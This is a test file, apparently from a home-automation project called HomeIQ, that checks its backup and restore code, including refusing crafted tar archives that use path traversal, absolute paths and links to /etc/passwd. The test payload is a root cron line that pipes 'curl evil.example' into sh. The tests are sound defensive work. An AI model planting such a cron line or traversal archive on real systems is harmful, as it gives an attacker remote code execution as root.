import { describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { tempDirs } from "../../test/support/temp-dirs.ts";
import { migrate, openDatabase } from "../kernel/sqlite.ts";
import {
  BackupError,
  backupFileName,
  createBackup,
  pruneBackups,
  restoreBackup,
  verifyBackup,
} from "./backup.ts";
import { listTar, TarError, TarWriter } from "./tar.ts";

const tempDir = tempDirs("homeiq-backup-");

function seededDataDir() {
  const root = tempDir();
  const dataDir = join(root, "data");
  mkdirSync(dataDir);
  const events = openDatabase(join(dataDir, "events.db"));
  migrate(events, "events.db", ["CREATE TABLE events (ts INTEGER, v INTEGER)"]);
  events.exec(
    "WITH RECURSIVE s(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM s WHERE i < 1000) INSERT INTO events SELECT i, i FROM s",
  );
  events.close();
  const meta = openDatabase(join(dataDir, "metadata.db"));
  meta.exec("CREATE TABLE areas (id TEXT); INSERT INTO areas VALUES ('kitchen'), ('hall')");
  meta.close();
  writeFileSync(join(dataDir, "api-token"), "t".repeat(32), { mode: 0o600 });
  return { root, dataDir };
}

describe("backup and restore", () => {
  test("an online backup taken while a writer inserts restores to exactly what its manifest recorded", async () => {
    const { root, dataDir } = seededDataDir();
    const writer = new Worker(new URL("../../test/support/ops/busy-writer.ts", import.meta.url).href);
    await new Promise<void>((resolve) => {
      writer.onmessage = () => resolve();
      writer.postMessage({ path: join(dataDir, "events.db") });
    });
    const file = join(root, "backups", backupFileName());
    const manifest = createBackup(dataDir, file);
    const stopped = new Promise<{ inserted: number }>((resolve) => {
      writer.onmessage = (e) => resolve(e.data);
    });
    writer.postMessage("stop");
    const { inserted } = await stopped;
    writer.terminate();

    const snapshotRows = manifest.databases.find((d) => d.file === "events.db")!.tables.events;
    expect(snapshotRows).toBeGreaterThanOrEqual(1500); // seeded 1000 + at least one writer batch
    expect(snapshotRows).toBeLessThanOrEqual(1000 + inserted);
    expect(manifest.databases.map((d) => [d.file, d.schemaVersion])).toEqual([
      ["events.db", 1],
      ["metadata.db", 0],
    ]);
    expect(listTar(file).map((e) => e.name)).toEqual([
      "manifest.json",
      "events.db",
      "metadata.db",
      "api-token",
    ]);

    const target = join(root, "restored");
    restoreBackup(file, target);
    const db = openDatabase(join(target, "events.db"), { readonly: true });
    expect((db.query("SELECT count(*) AS n FROM events").get() as { n: number }).n).toBe(snapshotRows);
    db.close();
    expect(readFileSync(join(target, "api-token"), "utf8")).toBe("t".repeat(32));
  });

  test("restore refuses a data dir that is not empty and leaves it untouched", () => {
    const { root, dataDir } = seededDataDir();
    const file = join(root, "b.tar");
    createBackup(dataDir, file);
    expect(() => restoreBackup(file, dataDir)).toThrow(`data dir ${dataDir} is not empty`);
    expect(readdirSync(dataDir).sort()).toEqual(
      [
        "api-token",
        "events.db",
        "events.db-shm",
        "events.db-wal",
        "metadata.db",
        "metadata.db-shm",
        "metadata.db-wal",
      ].filter((f) => existsSync(join(dataDir, f))),
    );
  });

  test("a damaged backup fails verification and restores nothing", () => {
    const { root, dataDir } = seededDataDir();
    const file = join(root, "b.tar");
    createBackup(dataDir, file);
    const bytes = readFileSync(file);
    const entry = listTar(file).find((e) => e.name === "metadata.db")!;
    bytes[entry.offset + entry.size - 10] ^= 0xff;
    writeFileSync(file, bytes);
    expect(verifyBackup(file).problems).toEqual([
      "metadata.db: checksum does not match the manifest (damaged backup)",
    ]);
    const target = join(root, "restored");
    expect(() => restoreBackup(file, target)).toThrow("failed verification");
    expect(existsSync(target)).toBe(false);
  });

  test("something that is not a backup is refused with a clear message", () => {
    const root = tempDir();
    const file = join(root, "x.tar");
    writeFileSync(file, "hello");
    expect(() => verifyBackup(file)).toThrow("truncated");
    writeFileSync(file, Buffer.alloc(2048, 1));
    expect(() => verifyBackup(file)).toThrow("is not a HomeIQ backup");
  });

  test("pruning keeps the newest backups", () => {
    const root = tempDir();
    const names = [0, 1, 2, 3].map((i) => backupFileName(new Date(Date.UTC(2026, 0, 1 + i))));
    for (const n of names) writeFileSync(join(root, n), "x");
    expect(pruneBackups(root, 2)).toEqual(names.slice(0, 2));
    expect(readdirSync(root).sort()).toEqual(names.slice(2));
  });
});

function sha256(bytes: Uint8Array): string {
  return new Bun.CryptoHasher("sha256").update(bytes).digest("hex");
}

interface Member {
  /** The tar entry's name. */
  name: string;
  bytes: Uint8Array;
  /** The name the manifest lists (default: `name`), and its checksum (default: the real one). */
  listedAs?: string;
  sha256?: string;
  listedBytes?: number;
  database?: boolean;
}

/** A backup built with the project's TarWriter, with whatever names and checksums an attacker chooses. */
function craftedBackup(path: string, members: Member[]): void {
  const listed = (m: Member) => ({
    file: m.listedAs ?? m.name,
    bytes: m.listedBytes ?? m.bytes.length,
    sha256: m.sha256 ?? sha256(m.bytes),
  });
  const manifest = {
    format: "homeiq-backup",
    formatVersion: 1,
    createdAt: new Date().toISOString(),
    databases: members.filter((m) => m.database).map((m) => ({ ...listed(m), schemaVersion: 0, tables: {} })),
    files: members.filter((m) => !m.database).map(listed),
  };
  const tar = new TarWriter(path);
  tar.addBytes("manifest.json", Buffer.from(JSON.stringify(manifest)));
  for (const m of members) tar.addBytes(m.name, m.bytes);
  tar.finish();
}

/** Rewrites the header of entry `name` in place (and its checksum, so only the patch is wrong). */
function patchHeader(file: string, name: string, patch: (header: Buffer) => void): void {
  const bytes = readFileSync(file);
  const entry = listTar(file).find((e) => e.name === name)!;
  const header = bytes.subarray(entry.offset - 512, entry.offset);
  patch(header);
  header.fill(0x20, 148, 156);
  let sum = 0;
  for (const b of header) sum += b;
  header.write(`${sum.toString(8).padStart(6, "0")}\0 `, 148, "latin1");
  writeFileSync(file, bytes);
}

/**
 * Verifies then restores `file` (which sits alone in `root`); both must refuse with `message`, and
 * afterwards `root` holds only the backup: no would-be target, no staging dir, no restored data dir.
 */
function expectRefusedAndNothingWritten(root: string, file: string, message: string, wouldBe: string[]) {
  expect(() => verifyBackup(file)).toThrow(message);
  expect(() => restoreBackup(file, join(root, "restored"))).toThrow(message);
  for (const path of wouldBe) expect({ path, exists: existsSync(path) }).toEqual({ path, exists: false });
  expect(readdirSync(root)).toEqual(["evil.tar"]);
}

describe("verify and restore of a crafted backup", () => {
  const payload = Buffer.from("* * * * * root curl evil.example | sh\n");

  test("a manifest name with ../ is refused before anything is written (the review's PWNED.txt)", () => {
    const root = tempDir();
    const file = join(root, "evil.tar");
    // From <root>/.verify-X/data and <root>/.restored-restoring-X/data alike, this lands in <root>.
    craftedBackup(file, [{ name: "../../PWNED.txt", bytes: payload }]);
    expectRefusedAndNothingWritten(
      root,
      file,
      'manifest.json files[0].file "../../PWNED.txt" climbs out of the data dir with ".."',
      [join(root, "PWNED.txt")],
    );
    const deep = `${"../".repeat(12)}${join(root, "deep.txt").slice(1)}`;
    craftedBackup(file, [{ name: deep, bytes: payload }]);
    expectRefusedAndNothingWritten(root, file, "climbs out of the data dir", [join(root, "deep.txt")]);
  });

  test("absolute names, backslashes, NUL and names outside the allowlist are refused, in files and databases", () => {
    const root = tempDir();
    const file = join(root, "evil.tar");
    const absolute = join(root, "absolute.txt");
    craftedBackup(file, [{ name: absolute, bytes: payload }]);
    expectRefusedAndNothingWritten(root, file, `"${absolute}" is an absolute path`, [absolute]);
    craftedBackup(file, [{ name: "x.db", listedAs: "../x.db", bytes: payload, database: true }]);
    expectRefusedAndNothingWritten(root, file, 'databases[0].file "../x.db" climbs out', [
      join(root, "x.db"),
    ]);
    const cases: [string, string][] = [
      ["a\\b", "contains a backslash"],
      ["a\u0000b", "contains a NUL byte"],
      ["spool/a/b", "is not a plain file name, or spool/ and one"],
      [".hidden", "is not a plain file name"],
      ["spool", "is a name the data dir reserves"],
    ];
    for (const [name, problem] of cases) {
      craftedBackup(file, [{ name: "ok", listedAs: name, bytes: payload }]);
      expectRefusedAndNothingWritten(root, file, `files[0].file ${JSON.stringify(name)} ${problem}`, []);
    }
  });

  test("a tar entry whose own name is unsafe is refused even when the manifest lists a safe one", () => {
    const root = tempDir();
    const file = join(root, "evil.tar");
    craftedBackup(file, [
      { name: "api-token", bytes: payload },
      { name: "../api-token", listedAs: "spool/x", bytes: payload },
    ]);
    expectRefusedAndNothingWritten(root, file, 'archive entry "../api-token" (byte 2048) climbs out', [
      join(root, "api-token"),
    ]);
  });

  test("symbolic links, hard links and devices are refused: a backup holds only regular files", () => {
    const root = tempDir();
    const file = join(root, "evil.tar");
    for (const [flag, what] of [
      ["2", "a symbolic link"],
      ["1", "a hard link"],
      ["3", "a character device"],
      ["5", "a directory"],
    ]) {
      craftedBackup(file, [{ name: "api-token", bytes: Buffer.alloc(0) }]);
      patchHeader(file, "api-token", (h) => {
        h.write(flag, 156, "latin1");
        h.write("/etc/passwd", 157, "latin1"); // the link target
      });
      expect(() => listTar(file)).toThrow(TarError);
      expectRefusedAndNothingWritten(
        root,
        file,
        `has entry "api-token" of type "${flag}" (${what}); a HomeIQ backup holds only regular files (byte 1024 of the archive)`,
        [],
      );
    }
  });

  test("a mismatching checksum: verify reports it, restore refuses, and nothing stays behind", () => {
    const root = tempDir();
    const file = join(root, "evil.tar");
    craftedBackup(file, [{ name: "api-token", bytes: payload, sha256: sha256(Buffer.from("other")) }]);
    expect(verifyBackup(file).problems).toEqual([
      "api-token: checksum does not match the manifest (damaged backup)",
    ]);
    expect(() => restoreBackup(file, join(root, "restored"))).toThrow(
      "failed verification:\n  - api-token: checksum does not match the manifest (damaged backup)",
    );
    expect(readdirSync(root)).toEqual(["evil.tar"]);
  });

  test("a size that differs from the manifest, an unlisted entry, a duplicate and a fake database are each caught", () => {
    const root = tempDir();
    const file = join(root, "evil.tar");
    craftedBackup(file, [{ name: "api-token", bytes: payload }]);
    expect(verifyBackup(file).problems).toEqual([]); // the baseline is a good backup

    craftedBackup(file, [{ name: "api-token", bytes: payload, listedBytes: 7 }]);
    expect(verifyBackup(file).problems).toEqual([
      `api-token: holds ${payload.length} bytes, the manifest says 7 (damaged backup)`,
    ]);

    craftedBackup(file, [
      { name: "api-token", bytes: payload },
      { name: "extra", listedAs: "api-token", bytes: payload },
    ]);
    expectRefusedAndNothingWritten(root, file, 'manifest.json files[1].file "api-token" is listed twice', []);

    craftedBackup(file, [
      { name: "api-token", bytes: payload },
      { name: "stowaway", listedAs: "x", bytes: payload },
    ]);
    expect(() => verifyBackup(file)).toThrow(
      'archive entry "stowaway" (byte 2048) is not listed in the manifest',
    );

    const fake = Buffer.from("not sqlite at all, but the checksum is right");
    craftedBackup(file, [{ name: "events.db", bytes: fake, database: true }]);
    expect(verifyBackup(file).problems).toEqual([
      "events.db: SQLite cannot read it (file is not a database)",
    ]);
    expect(() => restoreBackup(file, join(root, "restored"))).toThrow("events.db: SQLite cannot read it");
    expect(readdirSync(root)).toEqual(["evil.tar"]);
  });

  test("a backup's files are 0600 and a restored data dir is 0700 with 0600 files", () => {
    const { root, dataDir } = seededDataDir();
    const file = join(root, "backups", "b.tar");
    createBackup(dataDir, file);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(statSync(join(root, "backups")).mode & 0o777).toBe(0o700);
    const target = join(root, "restored");
    restoreBackup(file, target);
    expect(statSync(target).mode & 0o777).toBe(0o700);
    for (const f of readdirSync(target))
      expect({ f, mode: statSync(join(target, f)).mode & 0o777 }).toEqual({ f, mode: 0o600 });
  });

  test("a thrown refusal is always a BackupError or TarError", () => {
    const root = tempDir();
    const file = join(root, "evil.tar");
    craftedBackup(file, [{ name: "../x", bytes: payload }]);
    expect(() => verifyBackup(file)).toThrow(BackupError);
  });
});
